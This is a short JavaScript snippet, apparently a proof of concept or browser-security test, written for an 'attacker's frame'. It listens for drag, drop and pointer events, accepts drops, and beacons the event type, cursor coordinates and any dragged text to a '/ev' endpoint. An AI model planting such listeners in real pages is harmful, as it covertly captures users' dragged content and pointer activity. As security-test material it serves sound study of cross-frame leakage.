// Every pointer or drag event that reaches the attacker's frame is reported with its position.
for (const type of ['dragenter', 'dragover', 'drop', 'mousemove', 'mouseup', 'pointermove', 'mouseover']) {
  let sent = 0;
  document.addEventListener(type, (event) => {
    if (type === 'dragover' || type === 'dragenter') event.preventDefault();
    if (sent++ > 3) return;
    const text = event.dataTransfer?.getData?.('text/plain') ?? '';
    new Image().src = `/ev?type=${type}&x=${Math.round(event.clientX)}&y=${Math.round(event.clientY)}&text=${encodeURIComponent(text)}`;
  }, true);
}
